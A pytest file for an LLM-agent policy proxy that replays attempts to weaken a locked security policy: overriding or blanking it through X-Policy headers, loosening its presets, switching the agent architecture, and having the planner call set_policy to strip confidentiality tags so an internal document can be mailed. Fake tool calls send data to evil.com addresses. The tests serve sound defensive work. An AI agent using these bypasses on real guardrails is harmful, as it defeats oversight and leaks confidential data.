"""Who may weaken a policy: attacks on a locked key policy through the official SDKs and raw HTTP.

Findings of issue 10 reproduced as the attacker would: a header policy replacing the key's, a
blank header policy switching single-LLM checking off, an arch switch shedding the key's
policy, a header loosening the key's presets, and a planner's ``set_policy`` erasing tags
before the next turn sends the data. Each must fail; an overridable key keeps today's override.
"""

from __future__ import annotations

import asyncio
import json

import anthropic
import openai
import pytest
from sequrity import SequrityClient

from tests.agent.dual_llm.conftest import Script, program
from tests.fakes.llm_server import Reply, ToolCall

KEY_POLICY = r"""
tool "send_email" {
    /// Mail only goes to our own domain.
    hard deny when not (to.value in {str matching r".*@corp\.com"});
}
"""
LEAK_POLICY = r"""
tool "get_internal_document" -> @tags |= {"confidential"};
tool "send_email" {
    /// Confidential data never leaves by mail.
    hard deny when body.tags overlaps {"confidential"};
}
"""
OVERRIDE = {"X-Policy": json.dumps({"codes": {"code": 'tool "send_email" { hard allow always; soft allow always; }'}})}
BLANK = {"X-Policy": json.dumps({"codes": {"code": "  "}})}
EMAIL = {"type": "object", "properties": {"to": {"type": "string"}, "body": {"type": "string"}}}
TOOLS = {
    "chat": [{"type": "function", "function": {"name": "send_email", "parameters": EMAIL}}],
    "messages": [{"name": "send_email", "input_schema": EMAIL}],
    "responses": [{"type": "function", "name": "send_email", "parameters": EMAIL}],
}
PATHS = {"chat": "/control/chat/openai/v1/chat/completions", "messages": "/control/chat/anthropic/v1/messages",
         "responses": "/control/chat/openai/v1/responses"}


def _key(policy: str = KEY_POLICY, arch: str = "single-llm", **policy_section) -> dict:
    return {"arch": arch, "policy": {"codes": {"code": policy, "language": "sqrt"}, **policy_section}}


@pytest.fixture(scope="module")
def keys(airlock):
    specs = {
        "locked-single": _key(),
        "locked-dual": _key(LEAK_POLICY, "dual-llm"),
        "locked-strict-presets": {"arch": "single-llm", "policy": {"presets": {"default_allow": False}}},
        "open-dual": {"arch": "dual-llm"},
    }
    airlock.add_keys({f"authority-{name}": spec for name, spec in specs.items()})
    asyncio.run(_add_overridable(airlock))
    return {name: airlock.keys[f"authority-{name}"] for name in [*specs, "overridable-single"]}


async def _add_overridable(airlock) -> None:
    from airlock.keys import mint_key
    from airlock.sessions.store import store_from_url

    store = store_from_url(airlock.settings.database_url)
    await store.start()
    try:
        secret, record = mint_key("authority-overridable-single", _key(), policy_locked=False)
        await store.add_key(record)
        airlock.keys["authority-overridable-single"] = secret
    finally:
        await store.close()


def _body(api: str, text: str = "mail the report") -> dict:
    body = {"model": "fake-model", "tools": TOOLS[api]}
    if api == "responses":
        return {**body, "input": text}
    body["messages"] = [{"role": "user", "content": text}]
    return {**body, "max_tokens": 100} if api == "messages" else body


def _calls(api: str, answer: dict) -> list[dict]:
    if api == "chat":
        return [json.loads(c["function"]["arguments"]) for c in answer["choices"][0]["message"].get("tool_calls") or []]
    if api == "messages":
        return [b["input"] for b in answer["content"] if b["type"] == "tool_use"]
    return [json.loads(i["arguments"]) for i in answer["output"] if i["type"] == "function_call"]


def _text(api: str, answer: dict) -> str:
    if api == "chat":
        return answer["choices"][0]["message"]["content"] or ""
    if api == "messages":
        return "".join(b.get("text", "") for b in answer["content"] if b["type"] == "text")
    return "".join(c["text"] for i in answer["output"] if i["type"] == "message" for c in i["content"])


@pytest.mark.parametrize("api", ["chat", "messages", "responses"])
@pytest.mark.parametrize("header", [OVERRIDE, BLANK], ids=["allow-always", "blank-code"])
def test_a_header_policy_cannot_weaken_a_locked_key_policy(api, header, keys, http, fake_llm):
    fake_llm.push(Reply(tool_calls=[ToolCall("send_email", {"to": "boss@evil.com", "body": "the numbers"})]))
    r = http.post(PATHS[api], json=_body(api), headers={"Authorization": f"Bearer {keys['locked-single']}", **header})
    assert r.status_code == 200, r.text
    assert _calls(api, r.json()) == []
    text = _text(api, r.json())
    assert "Tool call send_email denied by argument checking policies." in text and "by the key policy" in text


def test_overridable_key_keeps_todays_header_override(keys, fake_llm, airlock):
    client = openai.OpenAI(base_url=f"{airlock.url}/control/chat/openai/v1", api_key=keys["overridable-single"],
                           max_retries=0, default_headers=OVERRIDE)
    fake_llm.push(Reply(tool_calls=[ToolCall("send_email", {"to": "boss@evil.com", "body": "x"})]))
    answer = client.chat.completions.create(model="fake-model", tools=TOOLS["chat"],
                                            messages=[{"role": "user", "content": "mail"}])
    assert [json.loads(c.function.arguments)["to"] for c in answer.choices[0].message.tool_calls] == ["boss@evil.com"]


def test_locked_key_through_the_openai_and_anthropic_sdks_and_the_history_names_the_key(keys, fake_llm, airlock):
    oai = openai.OpenAI(base_url=f"{airlock.url}/control/chat/openai/v1", api_key=keys["locked-single"],
                        max_retries=0, default_headers=OVERRIDE)
    fake_llm.push(Reply(tool_calls=[ToolCall("send_email", {"to": "x@evil.com", "body": "b"}),
                                    ToolCall("send_email", {"to": "me@corp.com", "body": "b"})]))
    raw = oai.chat.completions.with_raw_response.create(model="fake-model", tools=TOOLS["chat"],
                                                       messages=[{"role": "user", "content": "mail"}])
    answer = raw.parse()
    assert [json.loads(c.function.arguments)["to"] for c in answer.choices[0].message.tool_calls] == ["me@corp.com"]
    history = asyncio.run(_session_state(airlock, raw.headers["x-session-id"]))["policy_check_history"]
    # denied by the key's rule; allowed because every layer allowed, the header's rule being the one that fired
    assert [(h["verdict"], h["policy"]) for h in history] == [("hard_denied", "key"), ("allowed", "header")]
    assert history[0]["layers"] == [{"policy": "key", "verdict": "hard_denied"}, {"policy": "header", "verdict": "allowed"}]

    ant = anthropic.Anthropic(base_url=f"{airlock.url}/control/chat/anthropic", api_key="sk-ant-user", max_retries=0,
                              default_headers={"Authorization": f"Bearer {keys['locked-single']}", **OVERRIDE})
    fake_llm.push(Reply(tool_calls=[ToolCall("send_email", {"to": "x@evil.com", "body": "b"})]))
    message = ant.messages.create(model="fake-model", max_tokens=50, tools=TOOLS["messages"],
                                  messages=[{"role": "user", "content": "mail"}])
    assert message.stop_reason == "end_turn" and all(b.type == "text" for b in message.content)
    assert "by the key policy" in message.content[-1].text


async def _session_state(airlock, session_id: str) -> dict:
    from airlock.sessions.store import store_from_url

    store = store_from_url(airlock.settings.database_url)
    await store.start()
    try:
        return (await store.get_session(session_id)).state
    finally:
        await store.close()


def test_header_presets_cannot_loosen_a_locked_keys_presets(keys, fake_llm, airlock):
    loosen = {"X-Policy": json.dumps({"presets": {"default_allow": True, "default_allow_enforcement_level": "soft"}})}
    client = openai.OpenAI(base_url=f"{airlock.url}/control/chat/openai/v1", api_key=keys["locked-strict-presets"],
                           max_retries=0, default_headers=loosen)
    fake_llm.push(Reply(tool_calls=[ToolCall("send_email", {"to": "me@corp.com"})]))
    answer = client.chat.completions.create(model="fake-model", tools=TOOLS["chat"],
                                            messages=[{"role": "user", "content": "mail"}])
    assert not answer.choices[0].message.tool_calls
    assert "default_allow" in answer.choices[0].message.content


def test_an_arch_switch_cannot_shed_a_locked_dual_llm_policy(keys, airlock, fake_llm, http):
    switch = {"X-Features": json.dumps({"agent_arch": "single-llm"})}
    oai = openai.OpenAI(base_url=f"{airlock.url}/control/chat/openai/v1", api_key=keys["locked-dual"],
                        max_retries=0, default_headers=switch)
    with pytest.raises(openai.BadRequestError) as err:
        oai.chat.completions.create(model="fake-model", messages=[{"role": "user", "content": "hi"}])
    assert "X-Features" in str(err.value) and "agent_arch" in str(err.value) and "locked" in str(err.value)
    ant = anthropic.Anthropic(base_url=f"{airlock.url}/control/chat/anthropic", api_key="sk-ant-user", max_retries=0,
                              default_headers={"Authorization": f"Bearer {keys['locked-dual']}", **switch})
    with pytest.raises(anthropic.BadRequestError) as err2:
        ant.messages.create(model="fake-model", max_tokens=10, messages=[{"role": "user", "content": "hi"}])
    assert "agent_arch" in str(err2.value)
    r = http.post(PATHS["responses"], json={"model": "fake-model", "input": "hi"},
                  headers={"Authorization": f"Bearer {keys['locked-dual']}", **switch})
    assert r.status_code == 400 and r.json()["error"]["param"] == "X-Features.agent_arch"
    assert fake_llm.requests == []


# ---- the planner's set_policy ------------------------------------------------------------------

DOC = "Q3 numbers: revenue 1.2M (CONFIDENTIAL)"
ERASE = program('''
final_return_value = None
set_policy(code='tool "get_internal_document" { result { @tags = {}; } }')
final_return_value = "ok"
''')
SEND = program('''
doc = get_internal_document(name="q3")
final_return_value = send_email(to="friend@corp.com", body=doc)
''')


@pytest.mark.parametrize("key_name", ["locked-dual", "open-dual"])
def test_set_policy_cannot_erase_the_tags_the_key_policy_adds(key_name, keys, airlock, fake_llm):
    script = Script()
    script.add("pllm", ERASE, SEND)
    fake_llm.handler = script
    config = {"fsm": {"enabled_internal_tools": ["set_policy"]},
              "response_format": {"include_policy_check_history": True}}
    headers = {"Authorization": f"Bearer {keys[key_name]}", "X-Config": json.dumps(config),
               "X-Features": json.dumps({"agent_arch": "dual-llm"})}
    if key_name == "open-dual":  # no saved policy: the same rules arrive in the header, still restrict-only
        headers["X-Policy"] = json.dumps({"codes": {"code": LEAK_POLICY}})
    tools = [{"type": "function", "function": {"name": n, "parameters": {"type": "object", "properties": {
        p: {"type": "string"} for p in ps}}}} for n, ps in (("get_internal_document", ["name"]), ("send_email", ["to", "body"]))]
    oai = openai.OpenAI(base_url=f"{airlock.url}/control/chat/openai/v1", api_key=keys[key_name], max_retries=0,
                        default_headers=headers)
    first = oai.chat.completions.with_raw_response.create(model="fake-model", tools=tools,
                                                          messages=[{"role": "user", "content": "relax the rules"}])
    session = first.headers["x-session-id"]
    assert json.loads(first.parse().choices[0].message.content)["status"] == "success"
    messages = [{"role": "user", "content": "relax the rules"},
                {"role": "assistant", "content": first.parse().choices[0].message.content},
                {"role": "user", "content": "mail q3 to my friend"}]
    sent = []
    for _ in range(4):
        answer = oai.chat.completions.create(model="fake-model", tools=tools, messages=messages,
                                             extra_headers={"X-Session-ID": session})
        message = answer.choices[0].message
        if not message.tool_calls:
            break
        messages.append(message.model_dump(exclude_none=True))
        for c in message.tool_calls:
            sent.append(c.function.name)
            messages.append({"role": "tool", "tool_call_id": c.id, "content": DOC})
    final = json.loads(message.content)
    state = asyncio.run(_session_state(airlock, session))["dual"]
    assert len(state["policies"]) == 1  # the planner's erasing policy is in force...
    assert sent == ["get_internal_document"]  # ...and still the mail never went out
    assert final["status"] == "failure" and "Tool call send_email denied" in final["error"]["message"]
    decisions = [h["decision"] for h in final["policy_check_history"] if h.get("tool") == "send_email"]
    assert decisions and decisions[-1]["policy"] == ("key" if key_name == "locked-dual" else "header")


def test_sequrity_client_sees_the_header_layer_decide(keys, airlock, fake_llm):
    """A header's extra rule denies under a locked key, and the decision says it was the header."""
    from sequrity.control import FineGrainedConfigHeader, SecurityPolicyHeader
    from sequrity.control.types.headers import ResponseFormatOverrides

    script = Script()
    script.add("pllm", program('final_return_value = send_email(to="ceo@corp.com", body="hello")'))
    fake_llm.handler = script
    client = SequrityClient(api_key=keys["locked-dual"], base_url=airlock.url)
    resp = client.control.chat.create(
        messages=[{"role": "user", "content": "greet the ceo"}], model="fake-model", provider="openai",
        llm_api_key="sk-user", tools=TOOLS["chat"],
        security_policy=SecurityPolicyHeader(codes={"language": "sqrt", "code": 'tool "send_email" { hard deny when to.value == "ceo@corp.com"; }'}),
        fine_grained_config=FineGrainedConfigHeader(response_format=ResponseFormatOverrides(include_policy_check_history=True)))
    final = json.loads(resp.choices[0].message.content)
    assert final["status"] == "failure" and "by the header policy" in final["error"]["message"]
    assert final["policy_check_history"][-1]["decision"]["policy"] == "header"
